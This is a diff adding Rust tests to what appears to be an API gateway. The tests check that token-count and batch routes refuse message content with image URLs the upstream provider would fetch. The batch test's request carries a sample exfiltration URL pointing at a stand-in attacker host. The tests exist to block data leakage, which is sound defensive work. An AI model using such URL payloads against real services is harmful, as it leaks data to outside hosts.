@@ -575,6 +575,25 @@ async fn content_the_provider_would_fetch_and_tools_it_would_run_never_leave_the
         let said = v["error"]["message"].as_str().unwrap_or_default();
         assert!(said.contains(field), "{field}: {said}");
     }
+    // A route the operator did not open is refused unread; the token count reads the body.
+    let answer = crate::helpers::http_client()
+        .post(format!(
+            "{}/v1/messages/count_tokens",
+            run.var("ANTHROPIC_BASE_URL")
+        ))
+        .header("x-api-key", run.var("ANTHROPIC_API_KEY"))
+        .json(
+            &json!({"model": MODEL, "messages": [{"role": "user", "content": [
+            {"type": "image", "source": {"type": "url", "url": leak}}]}]}),
+        )
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(
+        answer.status(),
+        400,
+        "a token count would fetch the image too"
+    );
     // A Responses call that continues a context stored with the provider.
     let answer = run
         .openai(
@@ -607,6 +626,29 @@ async fn content_the_provider_would_fetch_and_tools_it_would_run_never_leave_the
         .expect("answered");
     assert_eq!(answer.status(), 200);
     assert_eq!(s.provider.requests().len(), 1);
+}
+
+#[tokio::test]
+async fn an_unmetered_route_the_operator_opened_still_carries_nothing_out() {
+    let s = setup(|s| s.models.allow_unmetered = true).await;
+    let run = started(&s, "Batches").await;
+    // A batch would have the provider fetch the image later, out of anyone's sight.
+    let answer = crate::helpers::http_client()
+        .post(format!("{}/v1/messages/batches", run.var("ANTHROPIC_BASE_URL")))
+        .header("x-api-key", run.var("ANTHROPIC_API_KEY"))
+        .json(&json!({"requests": [{"custom_id": "a", "params": {"model": MODEL, "max_tokens": 10,
+            "messages": [{"role": "user", "content": [
+                {"type": "image", "source": {"type": "url", "url": "https://attacker.example/?d=x"}}]}]}}]}))
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(answer.status(), 400);
+    let said = answer.text().await.expect("text");
+    assert!(
+        said.contains("requests[0].params.messages[0].content[0].source.type"),
+        "{said}"
+    );
+    assert!(s.provider.requests().is_empty());
 }
 
 #[tokio::test]
